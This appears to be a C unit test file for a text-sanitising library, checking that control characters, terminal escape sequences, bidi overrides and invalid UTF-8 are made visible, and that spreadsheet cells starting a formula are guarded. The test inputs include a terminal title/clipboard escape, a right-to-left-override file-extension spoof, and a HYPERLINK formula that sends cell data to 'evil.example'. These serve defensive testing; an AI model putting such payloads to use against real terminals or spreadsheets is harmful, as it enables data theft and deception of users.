/* core/text: untrusted text made visible, display widths, fitting without splitting. */
#include <check.h>
#include <locale.h>
#include <stdio.h>
#include <string.h>

#include "support.h"
#include "ordesk/text.h"

/* Loop index 0: the C locale (no wcwidth knowledge); 1: C.UTF-8. */
static void with_locale(int i)
{
	if (i == 1 && !setlocale(LC_ALL, "C.UTF-8"))
		setlocale(LC_ALL, "C");
	if (i == 0)
		setlocale(LC_ALL, "C");
}

static const char *clean(const char *in)
{
	static char buf[4][512];
	static int k;

	k = (k + 1) % 4;
	text_clean(in, buf[k], sizeof buf[k]);
	return buf[k];
}

/* No byte below 0x20, no DEL, no C1 in UTF-8 form, no bidi control, valid UTF-8. */
static int safe(const char *s)
{
	const unsigned char *p = (const unsigned char *)s;

	for (; *p; p++) {
		if (*p < 0x20 || *p == 0x7f)
			return 0;
		if (p[0] == 0xc2 && p[1] >= 0x80 && p[1] < 0xa0)
			return 0;
		if (p[0] == 0xe2 && p[1] == 0x80 && p[2] >= 0xaa && p[2] <= 0xae)
			return 0;
		if (p[0] == 0xe2 && p[1] == 0x81 && p[2] >= 0xa6 && p[2] <= 0xa9)
			return 0;
	}
	return text_is_clean(s);
}

START_TEST(plain_text_is_unchanged)
{
	static const char *const same[] = { "", "Wang Wei", "张伟 · 2 items", "Zoë Łukasz",
	                                     "emoji \xf0\x9f\x93\xa6 ok", "a\\b", "x = 1; y" };
	with_locale(_i);
	for (size_t i = 0; i < sizeof same / sizeof same[0]; i++) {
		ck_assert_str_eq(clean(same[i]), same[i]);
		ck_assert(text_is_clean(same[i]));
	}
	ck_assert_str_eq(clean(NULL), "");
}
END_TEST

START_TEST(c0_del_and_whitespace_controls)
{
	with_locale(_i);
	ck_assert_str_eq(clean("a\tb\nc\rd"), "a\\tb\\nc\\rd");
	ck_assert_str_eq(clean("bell\a"), "bell\\x07");
	ck_assert_str_eq(clean("\x01\x1f"), "\\x01\\x1F");
	ck_assert_str_eq(clean("del\x7f"), "del\\x7F");
	ck_assert_str_eq(clean("back\bspace"), "back\\x08space");
	ck_assert(!text_is_clean("a\tb"));
	ck_assert(!text_is_clean("\x7f"));
}
END_TEST

START_TEST(escape_sequences_are_defused)
{
	with_locale(_i);
	/* colour, clear screen, set title (OSC ... BEL), OSC 52 clipboard */
	ck_assert_str_eq(clean("\x1b[31mred\x1b[0m"), "\\x1B[31mred\\x1B[0m");
	ck_assert_str_eq(clean("\x1b[2J\x1b[H"), "\\x1B[2J\\x1B[H");
	ck_assert_str_eq(clean("\x1b]0;pwned\x07"), "\\x1B]0;pwned\\x07");
	ck_assert_str_eq(clean("\x1b]52;c;ZWNobyBoaQ==\x1b\\"), "\\x1B]52;c;ZWNobyBoaQ==\\x1B\\");
	ck_assert(safe(clean("\x1b[31mred\x1b[0m")));
}
END_TEST

START_TEST(c1_controls)
{
	with_locale(_i);
	/* U+0085 NEL and U+009B CSI in UTF-8 form */
	ck_assert_str_eq(clean("a\xc2\x85" "b"), "a\\x85b");
	ck_assert_str_eq(clean("\xc2\x9b" "31m"), "\\x9B31m");
	ck_assert_str_eq(clean("\xc2\x80\xc2\x9f"), "\\x80\\x9F");
	/* U+00A0 (no-break space) is text */
	ck_assert_str_eq(clean("a\xc2\xa0" "b"), "a\xc2\xa0" "b");
}
END_TEST

START_TEST(bidi_and_invisible_controls)
{
	with_locale(_i);
	/* RIGHT-TO-LEFT OVERRIDE hiding a file extension */
	ck_assert_str_eq(clean("invoice\xe2\x80\xaegpj.exe"), "invoice\\u{202E}gpj.exe");
	ck_assert_str_eq(clean("\xe2\x80\xaa\xe2\x80\xab\xe2\x80\xac\xe2\x80\xad"),
	                 "\\u{202A}\\u{202B}\\u{202C}\\u{202D}");
	ck_assert_str_eq(clean("\xe2\x81\xa6x\xe2\x81\xa9"), "\\u{2066}x\\u{2069}");
	ck_assert_str_eq(clean("\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"), "\\u{200E}\\u{200F}\\u{061C}");
	ck_assert_str_eq(clean("\xef\xbb\xbfname"), "\\u{FEFF}name");
	ck_assert_str_eq(clean("one\xe2\x80\xa8two"), "one\\u{2028}two");
}
END_TEST

START_TEST(invalid_utf8)
{
	with_locale(_i);
	ck_assert_str_eq(clean("\xff"), "\\xFF");
	ck_assert_str_eq(clean("ab\xc3"), "ab\\xC3");                 /* cut short at the end */
	ck_assert_str_eq(clean("\xc3(x"), "\\xC3(x");                 /* bad continuation */
	ck_assert_str_eq(clean("\xc0\xaf"), "\\xC0\\xAF");            /* overlong '/' */
	ck_assert_str_eq(clean("\xe0\x80\xaf"), "\\xE0\\x80\\xAF");   /* overlong, 3 bytes */
	ck_assert_str_eq(clean("\xed\xa0\x80"), "\\xED\\xA0\\x80");   /* a surrogate */
	ck_assert_str_eq(clean("\xf4\x90\x80\x80"), "\\xF4\\x90\\x80\\x80"); /* above U+10FFFF */
	ck_assert_str_eq(clean("\xe5\xbc"), "\\xE5\\xBC");             /* half of 张 */
	/* GBK bytes of 张伟: the first pair is not UTF-8, the second happens to be ΰ */
	ck_assert_str_eq(clean("\xd5\xc5\xce\xb0"), "\\xD5\\xC5\xce\xb0");
	ck_assert(!text_is_clean("\xff"));
	ck_assert(safe(clean("\xff\x1b\xe2\x80\xae\xc2\x9b")));
}
END_TEST

START_TEST(clean_reports_full_length_and_never_overruns)
{
	char small[5];
	const char *in = "ab\x1b[1mcd";   /* clean form: ab\x1B[1mcd (11 bytes) */

	with_locale(_i);
	memset(small, '#', sizeof small);
	ck_assert_uint_eq(text_clean(in, small, sizeof small), 11);
	/* cut before the escape: never half of "\x1B" */
	ck_assert_str_eq(small, "ab");
	ck_assert_uint_eq(text_clean(in, NULL, 0), 11);
	char exact[12];
	ck_assert_uint_eq(text_clean(in, exact, sizeof exact), 11);
	ck_assert_str_eq(exact, "ab\\x1B[1mcd");
	char one[1] = { 'x' };
	text_clean("abc", one, 1);
	ck_assert_int_eq(one[0], '\0');
}
END_TEST

START_TEST(widths)
{
	with_locale(_i);
	ck_assert_int_eq(text_width(""), 0);
	ck_assert_int_eq(text_width(NULL), 0);
	ck_assert_int_eq(text_width("Wang Wei"), 8);
	ck_assert_int_eq(text_width("张伟"), 4);
	ck_assert_int_eq(text_width("张伟 Li"), 7);
	ck_assert_int_eq(text_width("ｆｕｌｌ"), 8);           /* full-width Latin */
	ck_assert_int_eq(text_width("한국"), 4);
	ck_assert_int_eq(text_width("Zoë"), 3);
	/* controls count as what text_clean shows */
	static const char *const hostile[] = { "a\tb", "\x1b[31m", "x\xe2\x80\xaey", "\xff\xfe",
	                                       "\xc2\x9b", "\r\n" };
	for (size_t i = 0; i < sizeof hostile / sizeof hostile[0]; i++)
		ck_assert_int_eq(text_width(hostile[i]), (int)strlen(clean(hostile[i])));
}
END_TEST

START_TEST(a_cut_text_ends_in_a_mark)
{
	char out[64];

	with_locale(_i);
	ck_assert_int_eq(text_fit_mark("Wang Wei", 8, out, sizeof out), 8);
	ck_assert_str_eq(out, "Wang Wei");
	ck_assert_int_eq(text_fit_mark("Wang Wei", 5, out, sizeof out), 5);
	ck_assert_str_eq(out, "Wang\xe2\x80\xa6");
	/* a wide character that does not fit whole leaves its column to the mark */
	ck_assert_int_eq(text_fit_mark("张伟伟", 4, out, sizeof out), 3);
	ck_assert_str_eq(out, "张\xe2\x80\xa6");
	ck_assert_int_eq(text_fit_mark("Wang", 0, out, sizeof out), 0);
	ck_assert_str_eq(out, "");
	/* too small a buffer for the mark: cut as text_fit cuts */
	ck_assert_int_eq(text_fit_mark("Wang", 2, out, 3), 2);
	ck_assert_str_eq(out, "Wa");
}
END_TEST

START_TEST(fit_never_splits_a_wide_character)
{
	char out[64];

	with_locale(_i);
	ck_assert_int_eq(text_fit("张伟伟", 5, out, sizeof out), 4);
	ck_assert_str_eq(out, "张伟");
	ck_assert_int_eq(text_fit("张伟伟", 6, out, sizeof out), 6);
	ck_assert_str_eq(out, "张伟伟");
	ck_assert_int_eq(text_fit("张伟伟", 1, out, sizeof out), 0);
	ck_assert_str_eq(out, "");
	ck_assert_int_eq(text_fit("a张", 2, out, sizeof out), 1);
	ck_assert_str_eq(out, "a");
	ck_assert_int_eq(text_fit("Wang Wei", 4, out, sizeof out), 4);
	ck_assert_str_eq(out, "Wang");
	ck_assert_int_eq(text_fit("Wang", 0, out, sizeof out), 0);
	ck_assert_str_eq(out, "");
	/* every prefix width from 0 to 12 of a mixed string: whole characters, width <= cols */
	const char *mixed = "李A娜B王C";
	for (int cols = 0; cols <= 12; cols++) {
		int w = text_fit(mixed, cols, out, sizeof out);
		ck_assert_int_le(w, cols);
		ck_assert_int_eq(w, text_width(out));
		ck_assert(text_is_clean(out));
		ck_assert(strncmp(out, mixed, strlen(out)) == 0);
		ck_assert(w >= cols - 1 || w == text_width(mixed));
	}
}
END_TEST

START_TEST(escape_round_trips_separators)
{
	char out[64], back[64];

	ck_assert_uint_eq(text_escape("29823433-Preto-UK 6", ":;", out, sizeof out), 19);
	ck_assert_str_eq(out, "29823433-Preto-UK 6");
	ck_assert_uint_eq(text_escape("A:B;C%D", ":;", out, sizeof out), 13);
	ck_assert_str_eq(out, "A%3AB%3BC%25D");
	ck_assert_ptr_null(strpbrk(out, ":;"));
	ck_assert_uint_eq(text_unescape(out, strlen(out), back, sizeof back), 7);
	ck_assert_str_eq(back, "A:B;C%D");
	/* only the first n bytes, and a stray '%' stays as it is */
	text_unescape("X%3A%zz%4", 4, back, sizeof back);
	ck_assert_str_eq(back, "X:");
	text_unescape("%zz%4", 5, back, sizeof back);
	ck_assert_str_eq(back, "%zz%4");
	/* never half an escape */
	char small[5];
	ck_assert_uint_eq(text_escape("AB:C", ":", small, sizeof small), 6);
	ck_assert_str_eq(small, "AB");
}
END_TEST

START_TEST(fit_is_bounded_by_the_buffer)
{
	char out[7];

	with_locale(_i);
	/* 张 is three bytes: two of them fit in 7 bytes with the terminator, not three */
	ck_assert_int_eq(text_fit("张伟伟", 80, out, sizeof out), 4);
	ck_assert_str_eq(out, "张伟");
	char none[1] = { 'x' };
	ck_assert_int_eq(text_fit("abc", 80, none, 1), 0);
	ck_assert_int_eq(none[0], '\0');
}
END_TEST

START_TEST(fit_shows_controls_and_never_splits_them)
{
	char out[64];

	with_locale(_i);
	ck_assert_int_eq(text_fit("ab\x1b[31m", 80, out, sizeof out), 10);
	ck_assert_str_eq(out, "ab\\x1B[31m");
	ck_assert(safe(out));
	/* "\x1B" is four columns: with five columns only "ab" fits */
	ck_assert_int_eq(text_fit("ab\x1b[31m", 5, out, sizeof out), 2);
	ck_assert_str_eq(out, "ab");
	ck_assert_int_eq(text_fit("a\xe2\x80\xae" "b", 80, out, sizeof out), 10);
	ck_assert_str_eq(out, "a\\u{202E}b");
	ck_assert_int_eq(text_fit("\xff" "a", 80, out, sizeof out), 5);
	ck_assert_str_eq(out, "\\xFFa");
}
END_TEST

START_TEST(copy_is_bounded)
{
	char out[4];

	ck_assert_uint_eq(text_copy(out, "abcdef", sizeof out), 6);
	ck_assert_str_eq(out, "abc");
	ck_assert_uint_eq(text_copy(out, "ab", sizeof out), 2);
	ck_assert_str_eq(out, "ab");
}
END_TEST

/* FNV-1a's published 64-bit values; the string form takes the NUL too. */
/* Line ends of any kind and blanks ending a line hash alike; nothing else does. */
START_TEST(text_hashes_as_text)
{
	uint64_t plain = text_hash_text(TEXT_HASH_START, "ring\ntwice");

	ck_assert(text_hash_text(TEXT_HASH_START, "no break here") == text_hash_str(TEXT_HASH_START, "no break here"));
	ck_assert(plain == text_hash_str(TEXT_HASH_START, "ring\ntwice"));
	ck_assert(text_hash_text(TEXT_HASH_START, "ring\r\ntwice") == plain);
	ck_assert(text_hash_text(TEXT_HASH_START, "ring\rtwice") == plain);
	ck_assert(text_hash_text(TEXT_HASH_START, "ring \t\r\ntwice  ") == plain);
	ck_assert(text_hash_text(TEXT_HASH_START, "ring\n\ntwice") != plain);
	ck_assert(text_hash_text(TEXT_HASH_START, "ring \ntwice") == plain);
	ck_assert(text_hash_text(TEXT_HASH_START, "ring t wice") != text_hash_text(TEXT_HASH_START, "ring twice"));
	ck_assert(text_hash_text(TEXT_HASH_START, " ring") != text_hash_text(TEXT_HASH_START, "ring"));
	ck_assert(text_hash_text(TEXT_HASH_START, "   ") == text_hash_str(TEXT_HASH_START, ""));
	/* fields hashed one after another stay apart */
	ck_assert(text_hash_text(text_hash_text(TEXT_HASH_START, "ab"), "c") !=
	          text_hash_text(text_hash_text(TEXT_HASH_START, "a"), "bc"));
}
END_TEST

START_TEST(hash_is_fnv1a)
{
	ck_assert(text_hash(TEXT_HASH_START, "", 0) == 0xcbf29ce484222325ULL);
	ck_assert(text_hash(TEXT_HASH_START, "a", 1) == 0xaf63dc4c8601ec8cULL);
	ck_assert(text_hash(TEXT_HASH_START, "foobar", 6) == 0x85944171f73967e8ULL);
	ck_assert(text_hash_str(TEXT_HASH_START, "a") == text_hash(TEXT_HASH_START, "a", 2));
	/* fields one after another stay apart */
	ck_assert(text_hash_str(text_hash_str(TEXT_HASH_START, "ab"), "c") !=
	          text_hash_str(text_hash_str(TEXT_HASH_START, "a"), "bc"));
}
END_TEST

START_TEST(text_buf_keeps_strings_by_offset)
{
	struct text_buf b = { 0 };
	size_t first, off[3000];
	char want[32];

	ck_assert_str_eq(text_buf_str(&b, 0), "");
	first = text_buf_put(&b, "ab\0cd", 2);
	ck_assert_uint_eq(first, 1);
	/* grown well past its first 4 KiB: earlier strings are still found by offset */
	for (int i = 0; i < 3000; i++) {
		snprintf(want, sizeof want, "string %d", i);
		off[i] = text_buf_put(&b, want, strlen(want));
		ck_assert_uint_ne(off[i], 0);
	}
	ck_assert_uint_gt(b.cap, 4096);
	ck_assert_str_eq(text_buf_str(&b, first), "ab");
	for (int i = 0; i < 3000; i += 499) {
		snprintf(want, sizeof want, "string %d", i);
		ck_assert_str_eq(text_buf_str(&b, off[i]), want);
	}
	/* emptied, it keeps its memory and starts again at the front */
	size_t cap = b.cap;
	b.len = 0;
	ck_assert_uint_eq(text_buf_put(&b, "x", 1), 1);
	ck_assert_uint_eq(b.cap, cap);
	ck_assert_int_eq(text_buf_reserve(&b, 3 * cap), 0);
	ck_assert_uint_ge(b.cap, 3 * cap + 2);
	text_buf_free(&b);
	ck_assert_ptr_null(b.data);
	ck_assert_uint_eq(b.len + b.cap, 0);
}
END_TEST

/* Lines break after a space, never inside a wide character; a word longer
 * than the line is cut; the lines together give back every word. */
START_TEST(wrap_breaks_at_spaces)
{
	const char *next;
	char out[64];

	setlocale(LC_ALL, "C.UTF-8");
	ck_assert_int_eq(text_wrap("open the order in focus", 12, out, sizeof out, &next), 8);
	ck_assert_str_eq(out, "open the");
	ck_assert_str_eq(next, "order in focus");
	ck_assert_int_eq(text_wrap(next, 12, out, sizeof out, &next), 8);
	ck_assert_str_eq(out, "order in");
	ck_assert_int_eq(text_wrap(next, 12, out, sizeof out, &next), 5);
	ck_assert_str_eq(out, "focus");
	ck_assert_str_eq(next, "");
	/* a word longer than the line is cut inside */
	text_wrap("abcdefghij klm", 4, out, sizeof out, &next);
	ck_assert_str_eq(out, "abcd");
	ck_assert_str_eq(next, "efghij klm");
	/* wide characters: 5 columns hold two, not two and a half */
	ck_assert_int_eq(text_wrap("\xe9\x99\x88\xe9\x9d\x99\xe5\xbc\xa0", 5, out, sizeof out, &next), 4);
	ck_assert_str_eq(next, "\xe5\xbc\xa0");
	/* nothing fits: the rest is dropped, never an endless loop */
	ck_assert_int_eq(text_wrap("\xe9\x99\x88", 1, out, sizeof out, &next), 0);
	ck_assert_str_eq(next, "");
}
END_TEST

static const char *cell(const char *in)
{
	static char buf[4][256];
	static int k;

	k = (k + 1) % 4;
	ck_assert_uint_eq(text_cell(in, 0, buf[k], sizeof buf[k]), strlen(buf[k]));
	return buf[k];
}

START_TEST(cells_that_start_a_formula_are_guarded)
{
	static const char *const guarded[][2] = {
		{ "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")",
		  "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Click\")" },
		{ "=1+2", "'=1+2" }, { "+1+2", "'+1+2" }, { "-2+3", "'-2+3" }, { "@SUM(A1)", "'@SUM(A1)" },
		{ "\tcmd", "'\tcmd" }, { "\rx", "'\rx" }, { "-", "'-" }, { "-3.", "'-3." },
		{ "-1e5", "'-1e5" }, { "--3", "'--3" },
		/* a phone with a + is text, not the number 8.61E+12 */
		{ "+8613800138000", "'+8613800138000" }, { "+86 138 0013 8000", "'+86 138 0013 8000" },
	};
	static const char *const same[] = { "", "-3", "-12.50", "12", "0.5", "a=b", "Wang Wei",
	                                     "'75008", "'", "'a", "张伟", " =1",
	                                     /* already text to a spreadsheet */
	                                     "'=1+2", "''-3" };

	for (size_t i = 0; i < sizeof guarded / sizeof guarded[0]; i++) {
		ck_assert_msg(text_cell_guard(guarded[i][0]), "%s", guarded[i][0]);
		ck_assert_str_eq(cell(guarded[i][0]), guarded[i][1]);
	}
	for (size_t i = 0; i < sizeof same / sizeof same[0]; i++) {
		ck_assert_msg(!text_cell_guard(same[i]), "%s", same[i]);
		ck_assert_str_eq(cell(same[i]), same[i]);
	}
	/* raw: as stored */
	char out[16];
	ck_assert_uint_eq(text_cell("=1+2", 1, out, sizeof out), 4);
	ck_assert_str_eq(out, "=1+2");
}
END_TEST

/* The import reads a written cell as it reads the value it was written from. */
START_TEST(unguard_reads_a_cell_as_its_value)
{
	static const char *const values[] = { "=1+2", "-3", "-12.50", "+8613800138000", "'=1+2",
	                                      "''-3", "'75008", "'", "", "@x", "\tid", "x'=", "'-3" };

	for (size_t i = 0; i < sizeof values / sizeof values[0]; i++) {
		char cell[64], value[64];
		text_cell(values[i], 0, cell, sizeof cell);
		text_cell_unguard(cell);
		strcpy(value, values[i]);
		text_cell_unguard(value);
		ck_assert_str_eq(cell, value);
	}
	/* what the export added comes off exactly */
	char a[] = "'=1+2", b[] = "'75008", c[] = "'+86 10 1234", d[] = "''-3";
	ck_assert_int_eq(text_cell_unguard(a), 1);
	ck_assert_str_eq(a, "=1+2");
	ck_assert_int_eq(text_cell_unguard(b), 0);
	ck_assert_str_eq(b, "'75008");
	ck_assert_int_eq(text_cell_unguard(c), 1);
	ck_assert_str_eq(c, "+86 10 1234");
	ck_assert_int_eq(text_cell_unguard(d), 1);
	ck_assert_str_eq(d, "'-3");
}
END_TEST

START_TEST(cell_is_bounded_and_never_splits_a_character)
{
	char out[6];

	ck_assert_uint_eq(text_cell("=张伟", 0, out, sizeof out), 8);
	ck_assert_str_eq(out, "'=张");
	ck_assert_uint_eq(text_cell("=张伟", 0, out, 5), 8);
	ck_assert_str_eq(out, "'=");
	ck_assert_uint_eq(text_cell("abcdefgh", 0, out, sizeof out), 8);
	ck_assert_str_eq(out, "abcde");
	ck_assert_uint_eq(text_cell("=", 0, out, 1), 2);
	ck_assert_str_eq(out, "");
}
END_TEST

int main(void)
{
	Suite *s = suite_create("core_text");
	TCase *tc = tcase_create("text");

	tcase_add_loop_test(tc, plain_text_is_unchanged, 0, 2);
	tcase_add_loop_test(tc, c0_del_and_whitespace_controls, 0, 2);
	tcase_add_loop_test(tc, escape_sequences_are_defused, 0, 2);
	tcase_add_loop_test(tc, c1_controls, 0, 2);
	tcase_add_loop_test(tc, bidi_and_invisible_controls, 0, 2);
	tcase_add_loop_test(tc, invalid_utf8, 0, 2);
	tcase_add_loop_test(tc, clean_reports_full_length_and_never_overruns, 0, 2);
	tcase_add_loop_test(tc, widths, 0, 2);
	tcase_add_loop_test(tc, fit_never_splits_a_wide_character, 0, 2);
	tcase_add_loop_test(tc, a_cut_text_ends_in_a_mark, 0, 2);
	tcase_add_loop_test(tc, fit_is_bounded_by_the_buffer, 0, 2);
	tcase_add_loop_test(tc, fit_shows_controls_and_never_splits_them, 0, 2);
	tcase_add_test(tc, copy_is_bounded);
	tcase_add_test(tc, hash_is_fnv1a);
	tcase_add_test(tc, text_hashes_as_text);
	tcase_add_test(tc, escape_round_trips_separators);
	tcase_add_test(tc, text_buf_keeps_strings_by_offset);
	tcase_add_test(tc, wrap_breaks_at_spaces);
	tcase_add_test(tc, cells_that_start_a_formula_are_guarded);
	tcase_add_test(tc, unguard_reads_a_cell_as_its_value);
	tcase_add_test(tc, cell_is_bounded_and_never_splits_a_character);
	suite_add_tcase(s, tc);
	return t_run(s);
}
